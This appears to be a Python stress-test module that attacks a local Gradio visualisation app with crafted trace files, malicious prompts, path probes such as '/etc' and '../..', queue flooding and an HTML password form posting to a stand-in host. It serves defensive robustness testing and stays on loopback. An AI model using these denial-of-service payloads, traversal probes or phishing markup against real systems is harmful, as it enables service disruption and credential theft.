"""Hostile-user scenarios against a running halviz app on 127.0.0.1, driven the way an attacker
would: raw HTTP on Gradio's own queue protocol (the browser's events, private ones included),
gradio_client, and ``python app.py`` as a subprocess. Every loop is bounded; nothing leaves the
loopback interface. Used by ``python -m tools.stress`` and by the tests.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "halviz" / "assets" / "examples"
PROMPT = "Describe the picture."
PYTHON_ERROR_NAMES = ("Traceback", "OverflowError", "RecursionError", "ValueError", "TypeError", "KeyError",
                      "IndexError", "UnicodeEncodeError", 'File "')


def looks_like_python(text: str) -> bool:
    """Raw exception text reaching a user (what the refusal sentences must never contain)."""
    return any(name in text for name in PYTHON_ERROR_NAMES)


# ---- the browser's own protocol ---------------------------------------------------------------------

@dataclass
class Reply:
    ok: bool
    data: list | None = None  # the outputs, when ok
    message: str = ""  # the error sentence, when not
    status: int = 200  # HTTP status of the join
    seconds: float = 0.0
    response_bytes: int = 0  # bytes the server streamed for this event


class RawSession:
    """One browser session spoken by hand: upload files, join the queue for any event (by its
    function's name, private ones too) and read the stream until that event completes."""

    def __init__(self, url: str, demo, session_hash: str | None = None, timeout_s: float = 120):
        import httpx

        self.base = url.rstrip("/") + "/gradio_api"
        self.url = url.rstrip("/")
        self.demo = demo
        self.session = session_hash or uuid.uuid4().hex[:11]
        self.http = httpx.Client(timeout=timeout_s)

    def close(self) -> None:
        self.http.close()

    def fn_index(self, name: str) -> int:
        """The first event handler whose function (or API name) is ``name``."""
        for index, fn in self.demo.fns.items():
            if fn.api_name == name or fn.name == name or getattr(fn.fn, "__name__", "") == name:
                return index
        raise LookupError(name)

    def upload(self, path: str | Path, name: str | None = None) -> dict:
        path = Path(path)
        with path.open("rb") as f:
            response = self.http.post(f"{self.base}/upload", files={"files": (name or path.name, f)})
        response.raise_for_status()
        return {"path": response.json()[0], "meta": {"_type": "gradio.FileData"}, "orig_name": name or path.name}

    def call(self, fn: str, data: Sequence[Any]) -> Reply:
        started = time.perf_counter()
        # ensure_ascii: a lone surrogate travels as the JSON escape "\ud800", as any client may send it
        body = json.dumps({"data": list(data), "fn_index": self.fn_index(fn), "session_hash": self.session,
                           "event_data": None, "trigger_id": None})
        joined = self.http.post(f"{self.base}/queue/join", content=body, headers={"content-type": "application/json"})
        if joined.status_code != 200:
            detail = joined.json().get("detail") if joined.headers.get("content-type", "").startswith(
                "application/json") else joined.text
            message = "; ".join(d.get("message", "") for d in detail) if isinstance(detail, list) else str(detail)
            return Reply(False, message=message, status=joined.status_code, seconds=time.perf_counter() - started)
        event_id = joined.json()["event_id"]
        size = 0
        with self.http.stream("GET", f"{self.base}/queue/data", params={"session_hash": self.session}) as stream:
            for line in stream.iter_lines():
                size += len(line)
                if not line.startswith("data:"):
                    continue
                message = json.loads(line[5:])
                if message.get("event_id") != event_id or message.get("msg") != "process_completed":
                    continue
                output = message.get("output") or {}
                seconds = time.perf_counter() - started
                if message.get("success"):
                    return Reply(True, data=output.get("data"), seconds=seconds, response_bytes=size)
                return Reply(False, message=str(output.get("error")), seconds=seconds, response_bytes=size)
        return Reply(False, message="the stream ended without an answer", seconds=time.perf_counter() - started)

    def compare(self, image: str | Path = EXAMPLES / "toy-scene.png", prompt: str = PROMPT,
                methods: Sequence[str] = ("vanilla",), tokens: Any = 4, truth: str = "", model: str = "toy",
                settings: str = "") -> Reply:
        return self.call("compare", [self.upload(image), prompt, list(methods), tokens, truth, model, settings, None])

    def replay(self, trace: str | Path, name: str | None = None) -> Reply:
        return self.call("replay", [self.upload(trace, name), None, None])

    def stop(self) -> Reply:
        return self.call("stop", [None, None, None])


def trace_choices(reply: Reply) -> list[str]:
    """The values of the debugger's trace picker in a replay's answer."""
    for item in reply.data or []:
        if isinstance(item, dict) and isinstance(item.get("choices"), list):
            values = [c[1] if isinstance(c, (list, tuple)) else c for c in item["choices"]]
            if any(str(v).startswith("upload:") for v in values):
                return [str(v) for v in values]
    return []


def markdown_outputs(reply: Reply) -> list[str]:
    return [item for item in reply.data or [] if isinstance(item, str)] + [
        item["value"] for item in reply.data or [] if isinstance(item, dict) and isinstance(item.get("value"), str)]


# ---- crafted traces -----------------------------------------------------------------------------

def read_npz(path: str | Path) -> tuple[dict, dict[str, np.ndarray]]:
    with np.load(path, allow_pickle=False) as data:
        arrays = {k: data[k] for k in data.files}
    meta = json.loads(arrays.pop("__meta__").tobytes().decode("utf-8"))
    return meta, arrays


def write_npz(path: str | Path, meta: Any, arrays: dict[str, np.ndarray], raw_meta: str | None = None) -> Path:
    text = raw_meta if raw_meta is not None else json.dumps(meta)
    payload = dict(arrays, __meta__=np.frombuffer(text.encode("utf-8"), dtype=np.uint8))
    np.savez_compressed(path, **payload)
    return Path(path)


PARTIAL_ATTENTION = ("segment_share", "top_key_pos", "top_key_attn", "entropy", "head_image_attn")


def without(arrays: dict[str, np.ndarray], name: str) -> dict[str, np.ndarray]:
    return {k: v for k, v in arrays.items() if k != name}


def crafted_traces(good: str | Path, folder: str | Path) -> dict[str, Path]:
    """Small files that each once cost the server memory, CPU or a raw exception."""
    meta, arrays = read_npz(good)
    folder = Path(folder)
    vanilla = {k: v for k, v in arrays.items() if k in ("token_ids", "top_ids", "top_probs", "step_ms")}
    bare = {k: v for k, v in meta.items() if k not in ("head_layers",)}
    many_steps = 13_000
    cases: dict[str, tuple[dict | None, dict, str | None]] = {
        "million-layers": ({**bare, "num_layers": 10**6, "head_layers": []}, vanilla, None),
        "hundred-million-layers": ({**bare, "num_layers": 10**8, "head_layers": []}, vanilla, None),
        "million-heads": ({**meta, "num_heads": 10**6}, arrays, None),
        "layers-as-true": ({**meta, "num_layers": True}, arrays, None),
        "layers-as-text": ({**meta, "num_layers": "6"}, arrays, None),
        "head-layers-text": ({**meta, "head_layers": ["a"]}, arrays, None),
        "huge-grid": ({**bare, "grid": [10**5, 10**5], "head_layers": []}, vanilla, None),
        "many-steps": ({**bare, "num_steps": many_steps, "texts": [""] * many_steps, "head_layers": []},
                       {"token_ids": np.zeros(many_steps, np.int64)}, None),
        "long-strings": ({**meta, "prompt": "x" * 200_000}, arrays, None),
        "nested-meta": (None, arrays, json.dumps(meta)[:-1] + ', "deep": ' + "[" * 50_000 + "]" * 50_000 + "}"),
        "huge-integer": (None, arrays, json.dumps(meta)[:-1] + ', "n": ' + "9" * 50_000 + "}"),
        "infinite-number": (None, arrays, json.dumps(meta)[:-1] + ', "n": Infinity}'),
        "many-vocab-strings": ({**meta, "vocab_strings": {str(i): "x" for i in range(200_000)}}, arrays, None),
        "method-array-too-big": (meta, {**arrays, "method/vhr/vhd": np.zeros((4000, 4000), np.float32)}, None),
    }
    for name in PARTIAL_ATTENTION:  # attention recorded, one of the arrays a panel reads left out
        cases[f"attention-without-{name}"] = (meta, without(arrays, name), None)
    return {name: write_npz(folder / f"{name}.npz", m, a, raw) for name, (m, a, raw) in cases.items()}


HTML_STRINGS = {
    "image": '<img src="http://example.invalid/tracked.png" alt="pixel">',
    "form": ('<form action="http://example.invalid/steal" method="post"><input type="password" name="pw">'
             '<button>Sign in</button></form>'),
    "markdown_image": "![pixel](http://example.invalid/md.png)",
}


def html_trace(good: str | Path, path: str | Path) -> Path:
    """A well-formed trace whose every free-text field holds HTML or Markdown that would fetch outside."""
    meta, arrays = read_npz(good)
    meta = dict(meta, model=HTML_STRINGS["image"], family=HTML_STRINGS["markdown_image"], prompt=HTML_STRINGS["form"],
                finish_reason=HTML_STRINGS["image"],
                methods=[{"name": "x", "title": HTML_STRINGS["markdown_image"], "params": {"a": HTML_STRINGS["image"]}}],
                ground_truth={"objects": [HTML_STRINGS["image"]], "source": HTML_STRINGS["form"], "trust": "user"})
    return write_npz(path, meta, arrays)


# ---- scenarios ------------------------------------------------------------------------------------

@dataclass
class Attack:
    name: str
    refused: bool
    message: str = ""
    seconds: float = 0.0
    response_bytes: int = 0

    @property
    def polite(self) -> bool:
        return self.refused and bool(self.message) and not looks_like_python(self.message) and len(self.message) < 600


def replay_attacks(url: str, demo, good: str | Path, folder: str | Path) -> list[Attack]:
    session = RawSession(url, demo)
    try:
        results = []
        for name, path in crafted_traces(good, folder).items():
            reply = session.replay(path)
            results.append(Attack(name, not reply.ok, reply.message, reply.seconds, reply.response_bytes))
        return results
    finally:
        session.close()


PROMPT_ATTACKS = {
    "image token": "<image> Describe it.", "end token": "Describe </s> it.", "start token": "<s> Describe it.",
    "pad token": "Describe <pad> it.", "lone surrogate": "Describe \ud800 it.", "1000 emoji": "😀" * 1000,
}


def prompt_attacks(url: str, demo, model: str = "toy") -> list[Attack]:
    session = RawSession(url, demo)
    try:
        results = []
        for name, prompt in PROMPT_ATTACKS.items():
            reply = session.compare(prompt=prompt, model=model)
            results.append(Attack(name, not reply.ok, reply.message, reply.seconds))
        for name, kwargs in {
            "past the context": dict(tokens=500), "five methods × 512": dict(
                methods=("vanilla", "prunehal", "kvsmooth", "vasparse", "vhr"), tokens=512),
            "True as a token count": dict(tokens=True),
            "infinite integer knob": dict(methods=("prunehal",), settings='{"prunehal": {"t": 1e999}}'),
            "5000-digit knob": dict(methods=("prunehal",), settings='{"prunehal": {"t": ' + "9" * 5000 + "}}"),
            "deeply nested knobs": dict(methods=("prunehal",), settings='{"prunehal": {"t": ' + "[" * 3000 + "]" * 3000 + "}}"),
        }.items():
            reply = session.compare(model=model, **kwargs)
            results.append(Attack(name, not reply.ok, reply.message, reply.seconds))
        return results
    finally:
        session.close()


MODEL_PROBES = ("/etc", "/nonexistent-folder", "../..", "/tmp", "halviz/assets/toy-llava-missing", "~root")


def model_box_probes(url: str, demo) -> dict[str, str]:
    """The answer to each server path typed into the model box (all must be the same sentence)."""
    session = RawSession(url, demo)
    try:
        return {path: session.compare(model=path).message for path in MODEL_PROBES}
    finally:
        session.close()


def session_upload_cap(url: str, demo, trace: str | Path, copies: int) -> list[str]:
    """Upload ``copies`` of one trace under different names in one session; the uploads it keeps."""
    session = RawSession(url, demo)
    try:
        kept: list[str] = []
        for i in range(copies):
            reply = session.replay(trace, name=f"copy-{i}.npz")
            if reply.ok:
                kept = [c for c in trace_choices(reply) if c.startswith("upload:")]
        return kept
    finally:
        session.close()


@dataclass
class Downloads:
    status_before: int
    status_after: int
    stops: int
    stop_seconds: float


def stops_versus_downloads(url: str, demo, stops: int = 70) -> Downloads:
    """Session B downloads a trace; session A then presses Stop ``stops`` times; can B still fetch it?"""
    victim, attacker = RawSession(url, demo), RawSession(url, demo)
    try:
        reply = victim.compare(tokens=3)
        files = reply.data[-2] if reply.ok else None
        if not files:
            raise RuntimeError(f"the victim's run failed: {reply.message}")
        link = files[0]["url"]
        before = victim.http.get(link).status_code
        if not attacker.compare(tokens=3).ok:
            raise RuntimeError("the attacker's run failed")
        started = time.perf_counter()
        for _ in range(stops):
            attacker.stop()
        spent = time.perf_counter() - started
        return Downloads(before, victim.http.get(link).status_code, stops, spent)
    finally:
        victim.close()
        attacker.close()


@dataclass
class QueueFill:
    submitted: int
    refused: int
    refusal: str
    other_served: bool
    other_error: str | None


def fill_the_queue(app, submissions: int = 18, tokens: int = 300) -> QueueFill:
    """One gradio_client submits ``submissions`` long comparisons at once; can another person still run one?"""
    from tools.stress import Request, submit_and_wait

    flooding = app.client()
    request = Request("toy-scene.png", ("vanilla", "vasparse"), tokens=tokens)
    jobs = [flooding.submit(*request.args(app.model), api_name="/compare") for _ in range(submissions)]
    deadline = time.perf_counter() + 30  # until every submission has joined the queue or been refused
    while time.perf_counter() < deadline and not all(
            j.done() or j.status().code.name not in ("STARTING", "JOINING_QUEUE") for j in jobs):
        time.sleep(0.05)
    other = submit_and_wait(app.client(), Request("toy-scene.png", ("vanilla",), tokens=4), app.model, timeout_s=120)
    refused, sentence = 0, ""
    for job in jobs:
        job.cancel()
    for job in jobs:
        try:
            job.result(timeout=60)
        except Exception as exc:  # the refusals, and the cancelled ones
            if "running or waiting" in str(exc) or "Queue is full" in str(exc):
                refused += 1
                sentence = sentence or str(exc)
    return QueueFill(submissions, refused, sentence, other.error is None, other.error)


@dataclass
class SlowLoad:
    loaded_model_s: float  # a request for the loaded model while another model loads
    other_load_released: bool  # the slow load was still in progress when the fast request finished
    error: str | None = None


class GatedLoader:
    """A loader for tests and the stress command: ``slow_name`` blocks until ``release()`` (or a
    timeout), every other name returns ``model``; counts calls per name."""

    def __init__(self, model, slow_name: str, timeout_s: float = 60):
        self.model, self.slow_name, self.timeout_s = model, slow_name, timeout_s
        self.gate = threading.Event()
        self.calls: dict[str, int] = {}
        self.slow_started = threading.Event()

    def __call__(self, name: str):
        self.calls[name] = self.calls.get(name, 0) + 1
        if name == self.slow_name:
            self.slow_started.set()
            self.gate.wait(self.timeout_s)
        return self.model

    def release(self) -> None:
        self.gate.set()


def slow_load_scenario(app, loader: GatedLoader) -> SlowLoad:
    """Start a comparison on the slow model, then time one on the loaded model while the first loads."""
    from tools.stress import Request, submit_and_wait

    slow_client = app.client()
    request = Request("toy-scene.png", ("vanilla",), tokens=4)
    slow = slow_client.submit(*request.args(loader.slow_name), api_name="/compare")
    if not loader.slow_started.wait(30):
        return SlowLoad(float("inf"), False, "the slow load never started")
    fast = submit_and_wait(app.client(), request, app.model, timeout_s=loader.timeout_s * 0.5)
    still_loading = not loader.gate.is_set()
    loader.release()
    try:
        slow.result(timeout=60)
    except Exception:
        pass
    return SlowLoad(fast.total_s if fast.error is None else float("inf"), still_loading, fast.error)


@dataclass
class Shutdown:
    started: bool
    exit_code: int | None
    seconds_to_exit: float
    trace_dirs_before: int
    trace_dirs_after: int
    output: str = field(default="", repr=False)


def sigterm_scenario(timeout_s: float = 180, environ: dict | None = None) -> Shutdown:
    """``python app.py`` in a subprocess with its own Gradio cache; SIGTERM once it serves."""
    import httpx

    from tools.stress import free_port

    cache = Path(tempfile.mkdtemp(prefix="halviz-sigterm-"))
    port = free_port()
    env = dict(os.environ, GRADIO_TEMP_DIR=str(cache), GRADIO_SERVER_PORT=str(port), GRADIO_SERVER_NAME="127.0.0.1",
               GRADIO_ANALYTICS_ENABLED="False", HF_HUB_OFFLINE="1", **(environ or {}))
    process = subprocess.Popen([sys.executable, str(ROOT / "app.py")], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True)
    started, deadline = False, time.perf_counter() + timeout_s
    try:
        while time.perf_counter() < deadline and process.poll() is None:
            try:
                started = httpx.get(f"http://127.0.0.1:{port}/", timeout=2).status_code == 200
            except httpx.HTTPError:
                started = False
            if started:
                break
            time.sleep(0.5)
        before = len(list(cache.rglob("halviz-traces-*")))
        sent = time.perf_counter()
        process.send_signal(signal.SIGTERM)
        try:
            code = process.wait(timeout=60)
        except subprocess.TimeoutExpired:
            code = None
        spent = time.perf_counter() - sent
        after = len(list(cache.rglob("halviz-traces-*")))
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        output = process.stdout.read() if process.stdout else ""
        import shutil

        shutil.rmtree(cache, ignore_errors=True)
    return Shutdown(started, code, spent, before, after, output)


def run_hostile(app, good_trace: str | Path, folder: str | Path, log: Callable[[str], None] = print) -> dict[str, Any]:
    """Every attack above against ``app`` (a ``tools.stress.LocalApp``), with the figures."""
    figures: dict[str, Any] = {}
    attacks = replay_attacks(app.url, app.demo, good_trace, folder)
    figures["trace_bombs"] = {a.name: {"refused": a.polite, "s": round(a.seconds, 2), "bytes": a.response_bytes}
                              for a in attacks}
    log(f"trace bombs: {sum(a.polite for a in attacks)}/{len(attacks)} refused politely, slowest "
        f"{max(a.seconds for a in attacks):.2f} s, largest answer {max(a.response_bytes for a in attacks)} bytes")
    prompts = prompt_attacks(app.url, app.demo, app.model)
    figures["prompt_attacks"] = {a.name: a.polite for a in prompts}
    log(f"prompt/knob attacks: {sum(a.polite for a in prompts)}/{len(prompts)} refused politely")
    probes = model_box_probes(app.url, app.demo)
    figures["model_box_same_answer_for_every_path"] = len(set(probes.values())) == 1
    kept = session_upload_cap(app.url, app.demo, good_trace, copies=12)
    figures["uploads_kept_of_12"] = len(kept)
    downloads = stops_versus_downloads(app.url, app.demo)
    figures["download_after_70_foreign_stops"] = downloads.status_after
    log(f"uploads kept of 12: {len(kept)}; another session's download after 70 stops: HTTP {downloads.status_after}")
    return figures
